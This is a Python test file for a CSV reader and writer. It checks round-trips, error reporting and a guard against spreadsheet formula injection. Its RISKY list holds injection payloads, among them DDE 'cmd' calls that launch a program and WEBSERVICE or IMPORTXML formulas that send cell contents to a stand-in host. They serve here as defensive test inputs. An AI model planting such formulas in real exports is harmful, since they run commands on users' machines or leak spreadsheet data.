from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dayhand import csv_text

CELL = st.text(st.characters(exclude_categories=["Cs"]), max_size=12)
RISKY = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\x00x", '=HYPERLINK("http://x.example")',
    "=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+=1", "\t=1+1",
    "\r\n=1", '=WEBSERVICE("http://x.example/?"&A1)', '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"1")', "-", "=", "\x00=1", "=\u00a0x", "@x\n=1",
]  # fmt: skip


@given(st.lists(st.lists(CELL, min_size=3, max_size=3), max_size=6))
def test_what_is_written_is_read_back_exactly(rows):
    kept = [row for row in rows if any(cell.strip() for cell in row)]
    text = csv_text.write_csv(["a", "b", "c"], kept)

    assert [row.cells for row in csv_text.read_csv(text.encode())][1:] == kept


def test_f02_there_are_at_least_18_cells_tried():
    assert len(set(RISKY)) >= 18


@pytest.mark.parametrize("cell", RISKY)
def test_f02_a_cell_that_a_spreadsheet_would_run_gets_an_apostrophe(cell):
    text = csv_text.write_csv(["a"], [[cell]])

    written = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))[1][0]
    assert written == f"'{cell}"


@pytest.mark.parametrize("cell", ["'=x", "''=x", "'", "''", "'-5", "'\t"])
def test_f02_an_apostrophe_before_a_sign_is_kept_apart_from_the_guard(cell):
    assert csv_text.guarded(cell) != csv_text.guarded(cell[1:])
    assert csv_text.unguarded(csv_text.guarded(cell)) == cell


@given(CELL)
def test_f02_no_guarded_cell_begins_with_a_sign_of_a_formula(cell):
    assert csv_text.guarded(cell)[:1] not in {"=", "+", "-", "@", "\t", "\r", "\x00"}


def test_an_apostrophe_of_a_name_stays():
    assert csv_text.guarded("'t Hooft") == "'t Hooft"
    assert csv_text.unguarded("'t Hooft") == "'t Hooft"


def test_a_number_is_written_as_it_is_and_none_as_nothing():
    text = csv_text.write_csv(["a", "b", "c"], [[Decimal("-40.00"), None, "-7"]], as_they_are={"c"})

    assert text.splitlines()[1] == "-40.00,,-7"


def test_a_row_that_does_not_fit_its_header_is_refused():
    with pytest.raises(ValueError, match="argument 2"):
        csv_text.write_csv(["a", "b"], [["x"]])


def test_rows_keep_the_line_they_begin_on():
    rows = csv_text.read_csv(b'a,b\r\n"two\nlines",1\r\n\r\nx,2\r\n')

    assert [row.line for row in rows] == [1, 2, 5]


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"a,b\nJos\xe9,1\n", "line 2 is not UTF-8 text; in the spreadsheet choose 'CSV UTF-8'"),
        (b'a,b\n"open,1\n', "line 2 is not well-formed CSV"),
        (b"x" * (csv_text.LARGEST + 1), "larger than 20 MiB"),
        (b'a\n"' + b"x" * 200_000 + b'"\n', "line 2 is not well-formed CSV (field larger"),
    ],
    ids=["encoding", "open-quote", "size", "cell-size"],
)
def test_text_that_is_no_csv_is_told_with_its_line(data, said):
    with pytest.raises(ValueError, match=re.escape(said)):
        csv_text.read_csv(data)
